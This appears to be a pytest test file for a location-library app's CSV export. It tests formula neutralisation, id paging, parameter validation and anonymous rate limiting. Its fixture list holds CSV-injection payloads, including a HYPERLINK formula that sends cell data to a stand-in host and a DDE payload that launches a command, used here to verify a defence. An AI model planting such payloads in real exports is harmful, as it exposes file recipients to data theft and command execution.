"""The public CSV exports: formula cells neutralised, the library export paged by id, streamed and
rate-limited for anonymous clients."""
import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import select

from locations import create_app
from locations.core.clock import today_jst
from locations.core.extensions import db
from locations.core.fileformats import csv_cell, read_records
from locations.directory.models import FilmCommission
from locations.library import editing as workspace
from locations.library.models import Location, LocationCategory
from tests.builders import login, make_user
from tests.conftest import make_test_config

# What the review found in /api/locations?format=csv, plus the tab and carriage return that some
# spreadsheets skip before looking for a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
PROBE = "formulaprobe"


@pytest.mark.parametrize("text", FORMULAS + ["'already quoted"])
def test_csv_cell_prefixes_what_a_spreadsheet_would_run(text):
    cell = csv_cell(text)
    assert cell == "'" + text
    # The importer reads the cell back as it was.
    records, errors = read_records(_one_cell_csv(cell), "csv", ("name",), ())
    assert not errors and records[0][1]["name"] == text


def _one_cell_csv(cell: str) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["name"], [cell]])
    return buffer.getvalue().encode()


def test_csv_cell_leaves_numbers_dates_and_plain_text_alone():
    assert [csv_cell(v) for v in (-3, 0, 12.5, -0.5, date(2026, 1, 2), True, None, "滝", "a=b")] == \
        ["-3", "0", "12.5", "-0.5", "2026-01-02", "true", "", "滝", "a=b"]


@pytest.fixture
def hostile_locations(app):
    """Published Kagawa FC locations whose text fields start like formulas."""
    with app.app_context():
        fc = db.session.scalar(select(FilmCommission).where(FilmCommission.slug == "kagawa-film-commission"))
        park = db.session.scalar(select(LocationCategory.id).where(LocationCategory.code == "park"))
        slugs = []
        for n, text in enumerate(FORMULAS):
            location = Location(slug=f"formula-{n}", commission_id=fc.id, category_id=park, prefecture_id=fc.prefecture_id,
                                lat=34.3 + n / 100, lon=134.0, status="draft", last_verified=today_jst(), source="x")
            workspace.save_location(location, {"name_ja": text, "name_en": text, "address": text, "source": text,
                                               "description_en": PROBE, "status": "published"}, None)
            slugs.append(location.slug)
        db.session.commit()
    return slugs


def test_library_export_neutralises_formulas(client, hostile_locations):
    response = client.get(f"/api/locations?q={PROBE}&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert sorted(r["slug"] for r in rows) == sorted(hostile_locations)
    for row in rows:
        for column in ("name_ja", "name_en", "address", "source"):
            assert row[column].startswith("'") and row[column][1:] in FORMULAS, (column, row[column])
        assert float(row["lat"]) > 34 and row["lat"][0].isdigit()


def published_ids() -> list[int]:
    return list(db.session.scalars(select(Location.id).where(
        Location.status == "published", Location.hidden_stale.is_(False)).order_by(Location.id)))


def test_library_export_pages_by_id_until_no_next_link(app, client, monkeypatch):
    monkeypatch.setitem(app.config, "EXPORT_PAGE_ROWS", 50)
    with app.app_context():
        slugs = {loc_id: slug for loc_id, slug in db.session.execute(
            select(Location.id, Location.slug).where(Location.id.in_(published_ids())))}
        expected = [slugs[i] for i in published_ids()]
    url, seen, pages = "/api/locations?format=csv&lang=en", [], 0
    while url:
        response = client.get(url)
        assert response.status_code == 200 and response.is_streamed
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
        assert 0 < len(rows) <= 50
        seen += [r["slug"] for r in rows]
        pages += 1
        link = response.headers.get("Link")
        url = re.fullmatch(r'<(/api/locations\?[^>]+)>; rel="next"', link).group(1) if link else None
        if url:
            assert "lang=en" in url and "format=csv" in url
    assert seen == expected and pages == -(-len(expected) // 50)


@pytest.mark.parametrize("query", ["per_page=5001", "per_page=0", "after=-1", "after=abc", "after=99999999999999999999"])
def test_library_export_refuses_bad_paging_with_a_reason(client, query):
    response = client.get(f"/api/locations?format=csv&{query}")
    assert response.status_code == 400
    name = query.split("=")[0]
    assert any(e.startswith(f"{name}:") for e in response.get_json()["errors"])


def test_library_export_after_the_last_id_is_only_the_header(app, client):
    with app.app_context():
        last = published_ids()[-1]
    response = client.get(f"/api/locations?format=csv&after={last}")
    assert response.get_data(as_text=True).splitlines() == [",".join(
        ("slug", "name_ja", "name_en", "category", "prefecture", "municipality", "address", "lat", "lon",
         "commission", "last_verified", "synthetic", "source"))]
    assert "Link" not in response.headers


def test_anonymous_exports_are_rate_limited_and_the_map_is_not(database_url):
    app = create_app(make_test_config(database_url, LOGIN_RATE_LIMITED=True, EXPORT_RATE_LIMIT="2 per minute",
                                      EXPORT_PAGE_ROWS=10))
    client = app.test_client()
    statuses = [client.get("/api/locations?format=csv&lang=en").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    refused = client.get("/api/locations?format=csv&lang=ja")
    assert refused.status_code == 429 and "CSV" in refused.get_json()["errors"][0]
    assert [client.get("/api/locations?per_page=5").status_code for _ in range(4)] == [200] * 4
    with app.app_context():
        email = make_user("producer").email
        db.session.commit()
    login(client, email)
    assert client.get("/api/locations?format=csv").status_code == 200
